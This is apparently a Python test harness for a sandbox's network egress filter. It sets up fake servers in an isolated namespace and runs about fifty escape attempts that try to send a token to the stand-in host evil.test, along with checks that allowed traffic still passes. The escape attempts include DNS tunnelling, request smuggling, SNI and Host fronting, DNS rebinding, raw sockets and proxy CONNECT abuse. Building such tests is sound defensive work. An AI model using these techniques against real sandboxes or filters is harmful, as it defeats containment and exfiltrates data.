"""Attacks on the gate of a room, against servers in a network namespace of their own.

Usage: rig.py ROOM [PREFIX…]   (in fresh network and mount namespaces, as root of them)

Every attack carries a token. It has escaped if a server or the name server saw the token.
Prints one line an attack: `name blocked|escaped|ok|broken detail`.
"""
import os, re, socket, struct, subprocess, sys, tempfile, threading, time

GOOD, EVIL, META, PRIV = '93.184.216.35', '93.184.216.34', '169.254.169.254', '10.11.12.13'
ZONE = {'allowed.test': [GOOD], 'x.allowed.test': [GOOD], 'two.allowed.test': [GOOD], 'evil.test': [EVIL],
        'priv.allowed.test': [PRIV], 'meta.allowed.test': [META], 'loop.allowed.test': ['127.0.0.1'],
        'corp.test': [PRIV], 'db.test': [GOOD], 'yes.test': [GOOD], 'no.test': [GOOD]}
RULES = ['allow allowed.test', 'allow corp.test', 'allow 10.11.12.0/24:8080', 'allow db.test:5432', 'deny bad.allowed.test',
         'allow =exact.test', 'ask yes.test', 'ask no.test']

SERVER = r'''
import socket, struct, sys, threading
zone, log = eval(sys.argv[1]), open(sys.argv[2], 'a', buffering=1)
def dns():
    s = socket.socket(2, 2); s.bind(('93.184.216.34', 53)); flips = 0
    while 1:
        d, p = s.recvfrom(4096); i, n = 12, []
        while d[i]: n.append(d[i+1:i+1+d[i]].decode('latin1')); i += d[i] + 1
        q, t, name = d[12:i+5], struct.unpack('>H', d[i+1:i+3])[0], '.'.join(n).lower()
        log.write('DNS %s %d\n' % (name, t))
        a = zone.get(name)
        if name == 'flip.allowed.test': flips += 1; a = ['93.184.216.35'] if flips < 2 else ['169.254.169.254']
        if name.startswith('sub'): a = ['93.184.216.35']
        if a and t == 1:
            r = b''.join(b'\xc0\x0c\0\1\0\1\0\0\0\0\0\4' + socket.inet_aton(x) for x in a)
            s.sendto(d[:2] + b'\x81\x80\0\1' + struct.pack('>H', len(a)) + b'\0\0\0\0' + q + r, p)
        else: s.sendto(d[:2] + (b'\x81\x80' if a else b'\x81\x83') + b'\0\1\0\0\0\0\0\0' + q, p)
def tcp(port):
    s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(('0.0.0.0', port)); s.listen(512)
    def serve(c):
        try:
            if port == 5432: c.sendall(b'server speaks first\n')
            while 1:
                d = c.recv(65536)
                if not d: break
                log.write('TCP %s:%d %r\n' % (c.getsockname()[0], port, d[:3000]))
                if b'websocket' in d: c.sendall(b'HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\n\r\n')
                elif b'hostile' in d: c.sendall(b'HTTP/1.1 200 OK\r\nLocation: http://evil.test/\r\n' + b'X: y\r\n' * 9999 + b'\r\n' + b'z' * 99999); c.close(); return
                else: c.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nhello\n')
        except OSError: pass
    while 1: threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
def udp(port):
    s = socket.socket(2, 2); s.bind(('0.0.0.0', port))
    while 1: log.write('UDP %r\n' % s.recv(4096))
for p in (22, 25, 80, 443, 5432, 8080, 9418): threading.Thread(target=tcp, args=(p,), daemon=True).start()
for p in (443, 9999): threading.Thread(target=udp, args=(p,), daemon=True).start()
dns()
'''
PRELUDE = r'''
import socket, struct, sys, os, time, ctypes
GOOD, EVIL, META, PRIV, TOK = '93.184.216.35', '93.184.216.34', '169.254.169.254', '10.11.12.13', sys.argv[1]
T = TOK.encode()
def tcp(h, p, data=b'', t=4):
    s = socket.create_connection((h, p), t)
    if data: s.sendall(data)
    return s
def get(h, host=None, path='/', p=80): return tcp(h, p, ('GET %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (path, host or h)).encode()).recv(999)
def hello(name):
    n = name if isinstance(name, bytes) else name.encode()
    e = struct.pack('>HHHBH', 0, len(n) + 5, len(n) + 3, 0, len(n)) + n
    b = b'\3\3' + b'R' * 32 + b'\0' + b'\0\2\x13\1' + b'\1\0' + struct.pack('>H', len(e)) + e
    h = b'\1' + struct.pack('>I', len(b))[1:] + b
    return b'\x16\3\1' + struct.pack('>H', len(h)) + h
def query(name, t=1, to='192.0.0.1', stream=False):
    q = b'\x12\x34\1\0\0\1\0\0\0\0\0\0' + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', t, 1)
    if stream:
        s = tcp(to, 53, struct.pack('>H', len(q)) + q); return s.recv(999)[2:]
    s = socket.socket(2, 2); s.settimeout(4); s.sendto(q, (to, 53)); return s.recv(999)
def proxy(raw, t=4):
    s = tcp('192.0.0.1', 3128, raw, t); return s.recv(9999)
socket.getaddrinfo('allowed.test', 80)
print('RAN', flush=True)
'''
# Attacks: the token must not arrive.
ATTACKS = {
    'denied name': 'get("evil.test", path="/" + TOK)',
    'name as data': 'socket.getaddrinfo(TOK + ".evil.test", 80)',
    'exact name has no subdomain': 'socket.getaddrinfo(TOK + ".exact.test", 80)',
    'denied below allowed': 'socket.getaddrinfo(TOK + ".bad.allowed.test", 80)',
    'literal address': 'get(EVIL, path="/" + TOK)',
    'literal of another port': 'tcp(GOOD, 25, T)',
    'allowed name, other port': 'tcp("allowed.test", 9418, T)',
    'ssh port of a name that is no git host': 'tcp("allowed.test", 22, T)',
    'private address behind a name': 'get("priv.allowed.test", path="/" + TOK)',
    'metadata behind a name': 'get("meta.allowed.test", path="/" + TOK)',
    'loopback behind a name': 'get("loop.allowed.test", path="/" + TOK)',
    'private address, granted on another port only': 'get(PRIV, path="/" + TOK)',
    'check and use': 'get("flip.allowed.test"); time.sleep(.1); get("flip.allowed.test") if 0 else get(META, host="flip.allowed.test", path="/" + TOK)',
    'fronting by Host': 'get("allowed.test", host=TOK + ".evil.test")',
    'fronting in the second request': 's = tcp("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"); s.recv(999); s.sendall(b"GET /" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); s.recv(99)',
    'fronting behind a body': 's = tcp("allowed.test", 80, b"POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 2\\r\\n\\r\\nhiGET /" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); s.recv(99); time.sleep(.2)',
    'two lengths': 'tcp("allowed.test", 80, b"POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 2\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + T).recv(9)',
    'two hosts': 'tcp("allowed.test", 80, b"GET /" + T + b" HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n").recv(9)',
    'absolute form of another host': 'tcp("allowed.test", 80, b"GET http://evil.test/" + T + b" HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n").recv(9)',
    'CONNECT on port 80': 'tcp("allowed.test", 80, b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n" + T).recv(9)',
    'pipelined after an upgrade that was refused': 's = tcp("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nUpgrade: h2c\\r\\n\\r\\nGET /" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); s.recv(99); time.sleep(.2)',
    'SNI of another host': 'tcp("allowed.test", 443, hello(TOK + ".evil.test")).recv(9)',
    'SNI with a NUL': 'tcp("allowed.test", 443, hello(b"allowed.test\\0" + T)).recv(9)',
    'SNI in pieces': 's = tcp("allowed.test", 443); [ (s.sendall(bytes([b])), time.sleep(.001)) for b in hello(TOK + ".evil.test") ]; s.recv(9)',
    'TLS without SNI': 'tcp("allowed.test", 443, b"\\x16\\3\\1\\0\\x2f\\1\\0\\0\\x2b\\3\\3" + T.ljust(32, b"x") + b"\\0\\0\\2\\x13\\1\\1\\0\\0\\0").recv(9)',
    'no TLS on 443': 'tcp("allowed.test", 443, b"SSH-2.0-" + T + b"\\r\\n").recv(9)',
    'TLS on port 80': 'tcp("allowed.test", 80, hello(TOK + ".evil.test")).recv(9)',
    'HTTP of another host on an open port': 'tcp("db.test", 5432, b"GET /" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n").recv(99); time.sleep(.2)',
    'TLS of another host on an open port': 'tcp("db.test", 5432, hello(TOK + ".evil.test")); time.sleep(.2)',
    'query to another resolver': 'query(TOK + ".evil.test", to=EVIL)',
    'query to another resolver by TCP': 'query(TOK + ".evil.test", to=EVIL, stream=True)',
    'TXT record': 'query(TOK + ".evil.test", t=16)',
    'query by TCP for a denied name': 'query(TOK + ".evil.test", stream=True)',
    'data in a long label': 'socket.getaddrinfo("sub" + TOK + "a" * 50 + ".allowed.test", 80)',
    'data in many labels': 'socket.getaddrinfo("sub" + ".".join([TOK] + ["abcdefghij"] * 10) + ".allowed.test", 80)',
    'UDP': 'socket.socket(2, 2).sendto(T, (GOOD, 9999)); time.sleep(.2)',
    'QUIC': 'socket.socket(2, 2).sendto(T, (GOOD, 443)); time.sleep(.2)',
    'UDP to the gate': 'socket.socket(2, 2).sendto(T, ("192.0.0.1", 9999)); time.sleep(.1)',
    'fast open': 's = socket.socket(); s.sendto(b"GET /" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", 0x20000000, (GOOD, 80)); s.recv(9)',
    'MPTCP': 's = socket.socket(2, 1, 262); s.settimeout(3); s.connect((EVIL, 80)); s.sendall(T); time.sleep(.2)',
    'raw socket': 's = socket.socket(2, 3, 255); s.sendto(T, (EVIL, 0))',
    'packet socket': 's = socket.socket(17, 3, 0x0800); s.send(T)',
    'netlink route': 's = socket.socket(16, 3, 0); s.send(struct.pack("IHHIIBBBBBBBBI", 28, 24, 5, 1, 0, 2, 0, 0, 0, 254, 3, 0, 1, 0)); r = s.recv(99); assert struct.unpack("i", r[16:20])[0] < 0; raise SystemExit',
    'zone id': 'tcp("fe80::1%lo", 80, T)',
    'mapped address': 's = socket.socket(10, 1); s.settimeout(3); s.connect(("::ffff:" + EVIL, 80)); s.sendall(T)',
    'NAT64 address': 'tcp("64:ff9b::5db8:d822", 80, T)',
    'proxy CONNECT to a denied name': 'proxy(b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n" + T)',
    'proxy CONNECT to port 25': 'proxy(b"CONNECT allowed.test:25 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n" + T)',
    'proxy CONNECT to an address': 'proxy(("CONNECT %s:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" % EVIL).encode() + T)',
    'proxy CONNECT, then another SNI': 's = tcp("192.0.0.1", 3128, b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n"); s.recv(99); s.sendall(hello(TOK + ".evil.test")); s.recv(9)',
    'proxy GET of a denied name': 'proxy(b"GET http://evil.test/" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")',
    'proxy second request': 's = tcp("192.0.0.1", 3128, b"GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET http://evil.test/" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); s.recv(99); s.sendall(b"GET http://evil.test/" + T + b" HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"); time.sleep(.2)',
    'a question that is answered no': 'get("no.test", path="/" + TOK)',
}
# Uses: must print OK.
USES = {
    'allowed name': 'print("OK" if b"hello" in get("allowed.test") else "")',
    'subdomain': 'print("OK" if b"hello" in get("x.allowed.test") else "")',
    'TLS of an allowed name': 'print("OK" if b"hello" in tcp("allowed.test", 443, hello("allowed.test")).recv(99) else "")',
    'TLS in pieces': 's = tcp("allowed.test", 443); [ (s.sendall(bytes([b])), time.sleep(.001)) for b in hello("allowed.test") ]; print("OK" if b"hello" in s.recv(99) else "")',
    'kept connection': 's = tcp("allowed.test", 80); r = [ (s.sendall(b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"), s.recv(999))[1] for i in range(20) ]; print("OK" if all(b"hello" in x for x in r) else "")',
    'server speaks first': 'print("OK" if b"first" in tcp("db.test", 5432).recv(99) else "")',
    'company name with a granted address': 'print("OK" if b"hello" in get("corp.test", p=8080, host="corp.test:8080") else "")',
    'granted address': 'print("OK" if b"hello" in get(PRIV, p=8080) else "")',
    'web socket': 's = tcp("allowed.test", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nUpgrade: websocket\\r\\n\\r\\n"); a = s.recv(99); s.sendall(b"\\x81\\x02hi"); print("OK" if b"101" in a and s.recv(99) else "")',
    'another type has no data': 'r = query("allowed.test", t=65); print("OK" if r[3] & 15 == 0 and r[6:8] == b"\\0\\0" else r)',
    'resolver by TCP': 'print("OK" if socket.inet_aton(GOOD) in query("allowed.test", stream=True) else "")',
    'denied name is denied at once': 't = time.time()\ntry: socket.getaddrinfo("evil.test", 80)\nexcept OSError: print("OK" if time.time() - t < 1 else "slow")',
    'denied address is refused at once': 't = time.time()\ntry: tcp(EVIL, 443)\nexcept ConnectionRefusedError: print("OK" if time.time() - t < 1 else "slow")',
    'own server on a port of the gate': 's = socket.socket(); s.bind(("0.0.0.0", 5432)); s.listen(5); c = socket.create_connection(("127.0.0.1", 5432)); print("OK")',
    'proxy': 'print("OK" if b"hello" in proxy(b"GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n") else "")',
    'proxy CONNECT': 's = tcp("192.0.0.1", 3128, b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n"); a = s.recv(99); s.sendall(hello("allowed.test")); print("OK" if b"hello" in s.recv(99) else a)',
    'a question that is answered yes': 'print("OK" if b"hello" in get("yes.test") else "")',
    'slow and half-open clients do not block others': 'a = [ tcp("allowed.test", 443) for i in range(200) ]; [ x.sendall(b"\\x16") for x in a ]; print("OK" if b"hello" in get("allowed.test") else "")',
    'resets do not block others': 'import struct as st\nfor i in range(200):\n  s = tcp("allowed.test", 80); s.setsockopt(1, 13, st.pack("ii", 1, 0)); s.close()\nprint("OK" if b"hello" in get("allowed.test") else "")',
    'a hostile answer': 'r = get("allowed.test", path="/hostile"); print("OK" if r else "")',
    'half close': 's = tcp("allowed.test", 443, hello("allowed.test")); s.shutdown(1); print("OK" if b"hello" in s.recv(99) else "")',
    'much data': 's = tcp("db.test", 5432); s.recv(99); import threading as t\nt.Thread(target=lambda: [ s.sendall(b"x" * 65536) for i in range(300) ], daemon=True).start(); n = 0\nwhile n < 40 * 40: n += len(s.recv(65536))\nprint("OK")',
}

def sh(*words): subprocess.run(words, check=True)

def main():
    room, prefix = sys.argv[1], sys.argv[2:]
    base = tempfile.mkdtemp(); os.chmod(base, 0o755)
    work = base + '/work'; os.mkdir(work); os.chmod(work, 0o777)
    log = base + '/log'; open(log, 'w').close()
    far = subprocess.Popen(['unshare', '-n', 'sleep', '600'])
    time.sleep(.3)
    inside = ['nsenter', '-t', str(far.pid), '-n']
    sh('ip', 'link', 'set', 'lo', 'up')
    sh('ip', 'link', 'add', 'out', 'type', 'veth', 'peer', 'name', 'far', 'netns', str(far.pid))
    sh('ip', 'addr', 'add', '10.200.0.1/30', 'dev', 'out'); sh('ip', 'link', 'set', 'out', 'up')
    sh(*inside, 'ip', 'link', 'set', 'lo', 'up')
    sh(*inside, 'ip', 'addr', 'add', '10.200.0.2/30', 'dev', 'far'); sh(*inside, 'ip', 'link', 'set', 'far', 'up')
    for address in (GOOD, EVIL, META, PRIV): sh(*inside, 'ip', 'addr', 'add', address + '/32', 'dev', 'lo')
    sh('ip', 'route', 'add', 'default', 'via', '10.200.0.2')
    server = subprocess.Popen([*inside, sys.executable, '-c', SERVER, repr(ZONE), log])
    time.sleep(.5)
    open(base + '/resolv.conf', 'w').write('nameserver %s\n' % EVIL)
    open(base + '/hosts', 'w').write('127.0.0.1 localhost\n')
    wrap = [*prefix, room, '--rw', work, '--cwd', work, '--resolver', base + '/resolv.conf', '--hosts', base + '/hosts', '--records', work + '/records']
    for rule in RULES: wrap += ['--host-rule', rule]
    def run(code, token):
        argv = [*wrap, '--', '/usr/bin/python3', '-c', PRELUDE + code, token]
        try: return subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60)
        except subprocess.TimeoutExpired: return subprocess.CompletedProcess(argv, 99, '', 'timeout')
    try:
        for number, (name, code) in enumerate(ATTACKS.items()):
            token = 'tok%dq%d' % (number, os.getpid())
            r = run(code, token); time.sleep(.05)
            seen = [l for l in open(log) if token in l]
            print('%s: %s %s' % (name, 'escaped' if seen else 'blocked' if 'RAN' in r.stdout else 'norun', seen[:1] or r.stderr.strip().splitlines()[-1:]), flush=True)
        for name, code in USES.items():
            r = run(code, 'none')
            print('%s: %s %s' % (name, 'ok' if r.stdout.split() == ['RAN', 'OK'] else 'broken', (r.stdout + r.stderr).strip()[-300:] if r.stdout.split() != ['RAN', 'OK'] else ''), flush=True)
        for line in open(work + '/records'): print('record:', line.strip())
    finally:
        server.kill(); far.kill()

main()
